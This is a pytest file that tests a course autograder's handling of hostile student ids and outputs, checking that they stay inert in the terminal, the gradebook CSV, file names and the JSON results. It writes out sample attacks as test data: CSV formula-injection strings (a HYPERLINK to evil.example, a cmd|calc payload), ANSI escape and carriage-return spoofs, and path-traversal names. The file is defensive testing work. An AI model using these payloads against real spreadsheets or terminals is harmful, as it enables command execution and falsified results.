"""Student-controlled text is inert everywhere: in the terminal, the gradebook CSV, the output
folder's file names and the JSON results. Each run is the real CLI on real files."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import make_toy_course

from grader.engine import results
from grader.exports import gradebook as export
from grader.util import inert

ROOT = Path(__file__).resolve().parents[2]
CORRECT = "import numpy as np\n\n\ndef add_one(x):\n    return np.asarray(x, dtype=float) + 1.0\n"
#: what a terminal would act on: C0 controls but newline and tab, DEL, C1 controls
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
HOSTILE_IDS = [
    "\x1b[31mred\x1b[0m\x1b]0;pwned\x07",  # colour, and a window title
    '=HYPERLINK("evil.example?"&A1,"click")',
    "+cmd|' -C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "victim",
    "victim.gradescope",  # its result file was the victim's Gradescope file
    "cr\rspoof: 100 of 100",
]


def grader(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "grader", *args], text=True, cwd=cwd,
                          capture_output=True, timeout=300, errors="surrogateescape")


@pytest.fixture
def course(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("GRADER_SECRET", raising=False)
    make_toy_course(tmp_path / "course")
    return tmp_path / "course"


@pytest.fixture
def hostile_class(tmp_path: Path) -> Path:
    klass = tmp_path / "class"
    klass.mkdir()
    for student in HOSTILE_IDS:
        (klass / student).mkdir()
        (klass / student / "toy.py").write_text(CORRECT)
    bad = os.fsencode(klass) + b"/not-utf8-\xff"  # a name no Unicode string spells
    os.mkdir(bad)
    with open(bad + b"/toy.py", "w") as fh:
        fh.write(CORRECT)
    return klass


def assert_inert(text: str) -> None:
    found = CONTROL.findall(text)
    assert not found, f"control characters reached the terminal: {found!r}"


@pytest.mark.slow
def test_do_hostile_ids_stay_inert_in_terminal_csv_files_and_reruns(
    hostile_class: Path, course: Path, tmp_path: Path,
) -> None:
    """Hostile entry names: does every student get a result under their own id, no control
    character reach stdout or stderr, no gradebook cell start a formula, no id overwrite
    another student's file, and a rerun and the report read every result back?"""
    out = tmp_path / "out"
    proc = grader("grade", str(hostile_class), "--out", str(out), "--course", str(course),
                  "--gradescope", "--jobs", "2")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert_inert(proc.stdout + proc.stderr)
    loaded = {r["student"]: r for r in results.load_all(out)}
    assert len(loaded) == len(HOSTILE_IDS) + 1
    assert set(HOSTILE_IDS) <= set(loaded)
    assert all(r["score"] == 2.0 for r in loaded.values())
    for student, result in loaded.items():  # each Gradescope file is its own student's
        path = out / f"{inert.filename(student)}.gradescope.json"
        assert json.loads(path.read_text(encoding="utf-8")) == export.gradescope(result)
    with open(out / "gradebook.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == len(loaded) + 1
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")), row[0]
    assert any(row[0] == "'" + '=HYPERLINK("evil.example?"&A1,"click")'
               for row in rows)
    again = grader("grade", str(hostile_class), "--out", str(out), "--course", str(course),
                   "--gradescope", "--jobs", "1")
    assert again.returncode == 0, again.stderr
    assert f"0 new, 0 regraded (files changed), {len(loaded)} kept" in again.stdout
    assert_inert(again.stdout + again.stderr)
    report = grader("report", str(out), "--course", str(course))
    assert report.returncode == 0, report.stderr
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "\x1b" not in page


@pytest.mark.slow
def test_is_an_unencodable_exception_message_still_a_valid_result(course: Path,
                                                                 tmp_path: Path) -> None:
    """`raise ValueError("\\ud800")`: does that student still get a valid result and a
    gradebook row, the run exit 0, and `grader gradescope` write its results.json?"""
    klass = tmp_path / "class"
    for student, body in (("ok", CORRECT), ("mallory", 'def add_one(x):\n'
                                                       '    raise ValueError("\\ud800")\n')):
        (klass / student).mkdir(parents=True)
        (klass / student / "toy.py").write_text(body)
    out = tmp_path / "out"
    proc = grader("grade", str(klass), "--out", str(out), "--course", str(course))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    mallory = results.load(out / "mallory.json")
    assert mallory is not None and mallory["score"] == 0
    assert "ValueError" in mallory["tests"][0]["feedback"]
    assert "mallory,0,2,0," in (out / "gradebook.csv").read_text(encoding="utf-8")
    target = tmp_path / "gradescope" / "results.json"
    proc = grader("gradescope", "--submission", str(klass / "mallory"), "--results",
                  str(target), "--metadata", str(tmp_path / "none.json"), "--course",
                  str(course))
    assert proc.returncode == 0, proc.stderr
    payload = json.loads(target.read_text(encoding="utf-8"))
    assert payload["score"] == 0 and "ValueError" in payload["tests"][0]["output"]


def test_does_check_keep_escapes_in_feedback_off_the_terminal(tmp_path: Path) -> None:
    """A function that raises with ANSI escapes and a carriage return: does `grader check`
    print them as visible text, not as terminal commands?"""
    folder = tmp_path / "mine"
    folder.mkdir()
    source = (ROOT / "solutions" / "activations.py").read_text(encoding="utf-8")
    source += ('\n\ndef sigmoid(z):\n    print("\\x1b[2J\\x1b[H")\n'
               '    raise ValueError("\\x1b[32m all checks passed\\r\\x9b")\n')
    (folder / "activations.py").write_text(source, encoding="utf-8")
    proc = grader("check", "activations", "--path", str(folder), "--course", str(ROOT))
    assert proc.returncode == 1
    assert_inert(proc.stdout + proc.stderr)
    assert "\\x1b[32m all checks passed\\r" in proc.stdout


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", ""])
def test_is_a_csv_cell_never_a_formula(text: str) -> None:
    """Does every text cell of the gradebook start with something other than = + - @ tab CR?"""
    cell = inert.csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "\r" not in cell
    assert cell.endswith(inert.terminal(text))


def test_are_file_names_of_ids_one_to_one() -> None:
    """Is no student's file name another's: distinct ids, distinct names without a dot,
    slash or control character, and long ids shortened but still distinct?"""
    ids = ["victim", "victim.gradescope", "a%2Eb", "a.b", "../x", "a/b", "~x", "x~",
           "\x00", ".grader.lock", "gradebook", "zoë", "a" * 300, "a" * 299 + "b",
           "\ud800", "\\ud800"]
    names = [inert.filename(i) for i in ids]
    assert len(set(names)) == len(names)
    for name in names:
        assert re.fullmatch(r"[^./\x00-\x1f]+", name), name
        assert len(name.encode("utf-8")) <= 200
